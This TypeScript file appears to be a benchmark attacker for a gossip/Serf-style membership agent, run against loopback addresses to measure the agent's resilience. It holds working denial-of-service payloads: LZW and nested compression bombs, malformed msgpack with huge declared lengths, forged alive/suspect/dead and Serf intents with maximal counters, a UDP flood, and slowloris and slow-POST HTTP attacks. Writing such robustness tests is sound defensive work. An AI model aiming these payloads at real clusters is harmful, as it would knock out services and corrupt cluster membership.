/**
 * The attacker of bench/attack.ts and bench/soak.ts: one process, so the victim's figures are
 * not mixed with the attacker's. Runs one attack against one agent for --ms, from local
 * addresses 127.0.0.2+ (all of 127/8 is loopback on Linux), with bounded client-side load.
 * Prints {"ready":true} once its payloads are built and, at the end, one JSON line of stats.
 *
 *   node --import tsx bench/attack/attacker.ts --attack NAME --gossip 127.0.0.1:P --http 127.0.0.1:H
 *        --ms 10000 --members name=port,... --victim NAME [--udp-rate 4000] [--sources 8]
 *
 * Hostile inputs are built with the repo's own encoders (src/gossip/codec/*, src/serf/messages.ts).
 */
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { type Socket, connect } from 'node:net';
import { parseArgs } from 'node:util';
import { encodeTyped } from '../../src/gossip/codec/fields.js';
import { lzwCompress } from '../../src/gossip/codec/lzw.js';
import {
  MessageType,
  NodeState,
  encodeAlive,
  encodeCompress,
  encodeDead,
  encodePushPull,
  encodeSuspect,
  encodeUser,
  type PushNodeState,
} from '../../src/gossip/codec/messages.js';
import { encodeCompound } from '../../src/gossip/codec/packet.js';
import { encodeJoinIntent, encodeLeaveIntent, encodeQuery, encodeUserEvent } from '../../src/serf/messages.js';
import { ATTACKS, type AttackName } from './attacks.js';

const { values } = parseArgs({
  options: {
    attack: { type: 'string' },
    gossip: { type: 'string' },
    http: { type: 'string' },
    ms: { type: 'string', default: '10000' },
    members: { type: 'string', default: '' },
    victim: { type: 'string', default: '' },
    'udp-rate': { type: 'string', default: '4000' },
    sources: { type: 'string', default: '8' },
    /** udp-flood only: comma-separated prefixes of the datagram kinds to send (default: all). */
    'udp-kinds': { type: 'string' },
  },
});

const attack = values.attack as AttackName;
if (!ATTACKS.includes(attack)) throw new Error(`--attack must be one of ${ATTACKS.join(', ')}`);
const [gHost, gPort] = hostPort(values.gossip ?? '127.0.0.1:7946');
const [hHost, hPort] = hostPort(values.http ?? '127.0.0.1:0');
const durationMs = Number(values.ms);
const sources = Array.from({ length: Number(values.sources) }, (_, i) => `127.0.0.${i + 2}`);
/** Real members: name → gossip port (all on 127.0.0.1). */
const realMembers = values.members
  .split(',')
  .filter(Boolean)
  .map((kv) => {
    const [name, port] = kv.split('=');
    return { name: name!, port: Number(port) };
  });

function hostPort(s: string): [string, number] {
  const i = s.lastIndexOf(':');
  return [s.slice(0, i), Number(s.slice(i + 1))];
}

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));
const stats: Record<string, number> = {
  connects: 0,
  connectErrors: 0,
  closedByVictim: 0,
  bytesSent: 0,
  bytesReceived: 0,
  datagrams: 0,
  requests: 0,
  responses: 0,
};
const status = new Map<string, number>();
let stopping = false;
let deadline = 0;
const running = () => !stopping && Date.now() < deadline;
const sockets = new Set<Socket>();

process.on('SIGTERM', () => {
  stopping = true;
});
process.on('SIGINT', () => {
  stopping = true;
});

/** One TCP connection from `source`; resolves when it is connected (or failed). */
function open(host: string, port: number, source: string): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const s = connect({ host, port, localAddress: source });
    sockets.add(s);
    s.setNoDelay(true);
    s.on('data', (d: Buffer) => {
      stats['bytesReceived']! += d.length;
      const m = /^HTTP\/1\.1 (\d+)/.exec(d.subarray(0, 16).toString('latin1'));
      if (m) status.set(m[1]!, (status.get(m[1]!) ?? 0) + 1);
    });
    s.on('close', () => sockets.delete(s));
    let connected = false;
    s.once('connect', () => {
      connected = true;
      stats['connects']!++;
      resolve(s);
    });
    s.once('error', () => {
      // before connect: refused; after: reset by the victim (counted once per socket)
      stats[connected ? 'socketErrors' : 'connectErrors'] = (stats[connected ? 'socketErrors' : 'connectErrors'] ?? 0) + 1;
      s.destroy();
      resolve(undefined);
    });
  });
}

/** Writes and waits for the socket to drain; false once it is closed. */
function write(s: Socket, bytes: Uint8Array): Promise<boolean> {
  if (s.destroyed || !s.writable) return Promise.resolve(false);
  stats['bytesSent']! += bytes.length;
  if (s.write(bytes)) return Promise.resolve(true);
  return new Promise((resolve) => {
    const done = (ok: boolean) => {
      s.off('drain', onDrain);
      s.off('close', onClose);
      resolve(ok);
    };
    const onDrain = () => done(true);
    const onClose = () => done(false);
    s.once('drain', onDrain);
    s.once('close', onClose);
  });
}

function closed(s: Socket): Promise<void> {
  if (s.destroyed) return Promise.resolve();
  return new Promise((resolve) => s.once('close', () => resolve()));
}

/** Runs `workers` loops of `body` (each with its index and source address) until the deadline. */
async function workers(n: number, body: (i: number, source: string) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: n }, async (_, i) => {
      // spread the first connects over 200 ms
      await sleep((i * 200) / n);
      while (running()) await body(i, sources[i % sources.length]!);
    }),
  );
}

// ---- payloads --------------------------------------------------------------------------------

const VSN = Uint8Array.of(1, 5, 2, 2, 5, 4);
const MAX_U32 = 0xffffffff;
const MAX_U64 = (1n << 64n) - 1n;

/** A push/pull header declaring 16 M node states, then 0x80 bytes to 16 MiB, LZW-compressed, in a compress envelope. */
function lzwBomb(): Uint8Array {
  const header = encodeTyped(MessageType.pushPull, (w) =>
    w
      .mapHeader(3)
      .key('Join')
      .bool(false)
      .key('Nodes')
      .int(1 << 24)
      .key('UserStateLen')
      .int(0),
  );
  const plain = new Uint8Array(16 * 1024 * 1024 - 64).fill(0x80);
  plain.set(header);
  return encodeCompress({ algo: 0, buf: lzwCompress(plain) });
}

/** A plaintext push/pull just under 16 MiB: 65 536 node states (dead, unknown names) of ~255 bytes. */
function bigPushPull(): Uint8Array {
  const states: PushNodeState[] = [];
  const meta = new Uint8Array(170).fill(0x41);
  for (let i = 0; i < 65_536; i++) {
    states.push({
      name: `intruder-${String(i).padStart(6, '0')}`,
      addr: Uint8Array.of(127, 0, 0, 2),
      port: 7946,
      meta,
      incarnation: 1,
      state: NodeState.dead,
      vsn: VSN,
    });
  }
  return encodePushPull({ nodes: states.length, userStateLen: 0, join: false }, states, new Uint8Array(0));
}

/** The forged datagrams of the UDP flood, one of each kind. */
function udpPayloads(attackerPort: number): { kind: string; bytes: Uint8Array }[] {
  const out: { kind: string; bytes: Uint8Array }[] = [];
  // compound of compress bombs: each envelope would expand to 64 KiB of a user message
  const inner = new Uint8Array(64 * 1024);
  inner[0] = MessageType.user;
  const bomb = encodeCompress({ algo: 0, buf: lzwCompress(inner) });
  const parts: Uint8Array[] = [];
  while ((parts.length + 1) * (bomb.length + 2) + 2 < 60_000 && parts.length < 255) parts.push(bomb);
  out.push({ kind: 'compound-of-compress-bombs', bytes: encodeCompound(parts) });
  // compress nested in compress, 8 deep, the innermost a 64 KiB expansion
  let nested = bomb;
  for (let i = 0; i < 8; i++) nested = encodeCompress({ algo: 0, buf: lzwCompress(nested) });
  out.push({ kind: 'nested-compress', bytes: nested });
  // malformed msgpack with maximal declared counts
  out.push({ kind: 'map32-4G', bytes: Uint8Array.of(MessageType.alive, 0xdf, 0xff, 0xff, 0xff, 0xff, 0xa4, 0x4e, 0x6f, 0x64, 0x65) });
  out.push({ kind: 'array32-4G', bytes: Uint8Array.of(MessageType.ping, 0xdd, 0xff, 0xff, 0xff, 0xff, 0xc0, 0xc0) });
  out.push({ kind: 'str32-4G', bytes: Uint8Array.of(MessageType.suspect, 0x81, 0xdb, 0xff, 0xff, 0xff, 0xff, 0x41) });
  out.push({
    kind: 'bin32-4G',
    bytes: Uint8Array.of(MessageType.dead, 0x81, 0xa4, 0x4e, 0x6f, 0x64, 0x65, 0xc6, 0xff, 0xff, 0xff, 0xff, 0x41),
  });
  const manyKeys = new Uint8Array(60_000);
  manyKeys.set([MessageType.alive, 0xdf, 0x00, 0x00, 0x75, 0x30]); // map of 30 000 nil→nil pairs
  manyKeys.fill(0xc0, 6);
  out.push({ kind: 'map-30k-nils', bytes: manyKeys });
  // deep nesting: 60 000 one-element arrays
  const deep = new Uint8Array(60_002).fill(0x91);
  deep[0] = MessageType.alive;
  deep[deep.length - 1] = 0xc0;
  out.push({ kind: 'deep-nesting', bytes: deep });
  // the same nesting compressed: 64 KiB of nesting from a few hundred bytes
  out.push({ kind: 'deep-nesting-compressed', bytes: encodeCompress({ algo: 0, buf: lzwCompress(deep) }) });
  // alive / suspect / dead about real members with huge incarnations
  for (const m of realMembers) {
    out.push({
      kind: 'alive-max-incarnation',
      bytes: encodeAlive({
        incarnation: MAX_U32,
        node: m.name,
        addr: Uint8Array.of(127, 0, 0, 1),
        port: m.port,
        meta: new Uint8Array(0),
        vsn: VSN,
      }),
    });
    out.push({ kind: 'suspect-max-incarnation', bytes: encodeSuspect({ incarnation: MAX_U32, node: m.name, from: 'intruder' }) });
    out.push({ kind: 'dead-max-incarnation', bytes: encodeDead({ incarnation: MAX_U32, node: m.name, from: 'intruder' }) });
    // Serf leave and join intents with Lamport time 2^64 - 1
    out.push({ kind: 'serf-leave-max-ltime', bytes: encodeUser(encodeLeaveIntent({ ltime: MAX_U64, node: m.name, prune: true })) });
    out.push({ kind: 'serf-join-max-ltime', bytes: encodeUser(encodeJoinIntent({ ltime: MAX_U64, node: m.name })) });
  }
  // an alive for an unknown member claiming the victim's address, at max incarnation
  out.push({
    kind: 'alive-intruder',
    bytes: encodeAlive({
      incarnation: MAX_U32,
      node: 'intruder',
      addr: Uint8Array.of(127, 0, 0, 2),
      port: attackerPort,
      meta: new Uint8Array(0),
      vsn: VSN,
    }),
  });
  let n = 0;
  const event = () =>
    encodeUser(
      encodeUserEvent({ ltime: MAX_U64 - BigInt(n++ % 2), name: `flood-${n % 1000}`, payload: new Uint8Array(64), coalesce: n % 2 === 0 }),
    );
  out.push({ kind: 'serf-user-event-max-ltime', bytes: event() });
  out.push({ kind: 'serf-user-event-max-ltime', bytes: event() });
  out.push({
    kind: 'serf-query-max-ltime',
    bytes: encodeUser(
      encodeQuery({
        ltime: MAX_U64,
        id: 1,
        addr: Uint8Array.of(127, 0, 0, 2),
        port: attackerPort,
        sourceNode: 'intruder',
        filters: [],
        flags: 1,
        relayFactor: 5,
        timeoutNs: 24n * 3600n * 1_000_000_000n,
        name: 'flood',
        payload: new Uint8Array(256),
      }),
    ),
  });
  // the same bodies inside compounds (what real gossip looks like)
  const serfs = out.filter((p) => p.kind.startsWith('serf') || p.kind.endsWith('incarnation'));
  if (serfs.length > 0) out.push({ kind: 'compound-of-forgeries', bytes: encodeCompound(serfs.slice(0, 255).map((p) => p.bytes)) });
  return out;
}

// ---- attacks ---------------------------------------------------------------------------------

async function tcpLzwBomb(): Promise<void> {
  const bomb = lzwBomb();
  stats['payloadBytes'] = bomb.length;
  ready();
  await workers(16, async (_, source) => {
    const s = await open(gHost, gPort, source);
    if (!s) return sleep(20);
    await write(s, bomb);
    stats['requests']!++;
    await Promise.race([closed(s), sleep(3000)]);
    s.destroy();
  });
}

async function tcpSlowPushPull(): Promise<void> {
  const pp = bigPushPull();
  stats['payloadBytes'] = pp.length;
  ready();
  const CHUNK = 64 * 1024;
  await workers(4, async (_, source) => {
    const s = await open(gHost, gPort, source);
    if (!s) return sleep(50);
    stats['requests']!++;
    let sent = 0;
    while (running() && sent < pp.length) {
      if (!(await write(s, pp.subarray(sent, sent + CHUNK)))) break;
      sent += CHUNK;
      await sleep(40);
    }
    if (sent >= pp.length) stats['completed'] = (stats['completed'] ?? 0) + 1;
    else if (s.destroyed) stats['closedByVictim']!++;
    s.destroy();
  });
}

async function tcpEncFrames(): Promise<void> {
  const header = Uint8Array.of(MessageType.encrypt, 0x01, 0x00, 0x00, 0x00); // 16 MiB
  const trickle = new Uint8Array(64).fill(0x5a);
  ready();
  await workers(160, async (_, source) => {
    const s = await open(gHost, gPort, source);
    if (!s) return sleep(50);
    stats['requests']!++;
    await write(s, header);
    while (running() && !s.destroyed) {
      await sleep(200);
      if (!(await write(s, trickle))) break;
    }
    if (s.destroyed && running()) stats['closedByVictim']!++;
    s.destroy();
  });
}

async function tcpStalled(): Promise<void> {
  ready();
  await workers(200, async (_, source) => {
    const s = await open(gHost, gPort, source);
    if (!s) return sleep(10);
    stats['requests']!++;
    await Promise.race([closed(s), sleep(deadline - Date.now())]);
    if (s.destroyed && running()) stats['closedByVictim']!++;
    s.destroy();
  });
}

async function udpFlood(): Promise<void> {
  const socks: UdpSocket[] = await Promise.all(
    sources.slice(0, 4).map(
      (src) =>
        new Promise<UdpSocket>((resolve) => {
          const u = createSocket('udp4');
          u.on('error', () => (stats['sendErrors'] = (stats['sendErrors'] ?? 0) + 1));
          u.bind(0, src, () => resolve(u));
        }),
    ),
  );
  const kinds = values['udp-kinds']?.split(',');
  const payloads = udpPayloads(socks[0]!.address().port).filter((p) => !kinds || kinds.some((k) => p.kind.startsWith(k)));
  if (payloads.length === 0) throw new Error(`no UDP payload kind matches ${values['udp-kinds']}`);
  stats['kinds'] = payloads.length;
  ready();
  const rate = Number(values['udp-rate']);
  const perTick = Math.max(1, Math.round(rate / 100));
  let i = 0;
  let inflight = 0;
  while (running()) {
    const t0 = Date.now();
    for (let k = 0; k < perTick && inflight < 2000; k++) {
      const p = payloads[i++ % payloads.length]!;
      const u = socks[i % socks.length]!;
      inflight++;
      u.send(p.bytes, gPort, gHost, (err) => {
        inflight--;
        if (err) stats['sendErrors'] = (stats['sendErrors'] ?? 0) + 1;
        else {
          stats['datagrams']!++;
          stats['bytesSent']! += p.bytes.length;
        }
      });
    }
    await sleep(Math.max(0, 10 - (Date.now() - t0)));
  }
  await sleep(100);
  for (const u of socks) u.close();
}

async function httpQueryHangup(): Promise<void> {
  ready();
  await workers(300, async (i, source) => {
    const s = await open(hHost, hPort, source);
    if (!s) return sleep(50);
    const timeout = i % 2 === 0 ? '24h' : '5m';
    stats['requests']!++;
    await write(s, Buffer.from(`POST /query?name=x${i}&timeout=${timeout} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n`));
    await Promise.race([closed(s), sleep(300)]);
    s.destroy(); // hang up mid-answer
  });
}

async function httpProxySlow(): Promise<void> {
  ready();
  const LENGTH = 1_000_000;
  const chunk = new Uint8Array(16 * 1024).fill(0x61);
  await workers(800, async (i, source) => {
    const s = await open(hHost, hPort, source);
    if (!s) return sleep(100);
    stats['requests']!++;
    let sent = 0;
    if (
      await write(
        s,
        Buffer.from(
          `POST /proxy/key-${i}/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/octet-stream\r\nContent-Length: ${LENGTH}\r\n\r\n`,
        ),
      )
    ) {
      while (running() && !s.destroyed && sent < LENGTH) {
        if (!(await write(s, chunk.subarray(0, Math.min(chunk.length, LENGTH - sent))))) break;
        sent += chunk.length;
        await sleep(1000);
      }
    }
    if (s.destroyed && running()) stats['closedByVictim']!++;
    s.destroy();
    await sleep(100);
  });
}

async function httpSlowloris(): Promise<void> {
  ready();
  await workers(3000, async (i, source) => {
    const s = await open(hHost, hPort, source);
    if (!s) return sleep(200);
    stats['requests']!++;
    if (await write(s, Buffer.from(`GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n`))) {
      while (running() && !s.destroyed) {
        await sleep(2000);
        if (!(await write(s, Buffer.from(`X-${i}: ${Date.now()}\r\n`)))) break;
      }
    }
    if (s.destroyed && running()) stats['closedByVictim']!++;
    s.destroy();
    await sleep(100);
  });
}

function ready(): void {
  deadline = Date.now() + durationMs;
  process.stdout.write(`${JSON.stringify({ ready: true })}\n`);
}

const run: Record<AttackName, () => Promise<void>> = {
  'tcp-lzw-bomb': tcpLzwBomb,
  'tcp-slow-pushpull': tcpSlowPushPull,
  'tcp-enc-frames': tcpEncFrames,
  'tcp-stalled': tcpStalled,
  'udp-flood': udpFlood,
  'http-query-hangup': httpQueryHangup,
  'http-proxy-slow': httpProxySlow,
  'http-slowloris': httpSlowloris,
};

try {
  await run[attack]();
} finally {
  for (const s of sockets) s.destroy();
  process.stdout.write(`${JSON.stringify({ done: true, attack, ...stats, http: Object.fromEntries(status) })}\n`);
  process.exit(0);
}
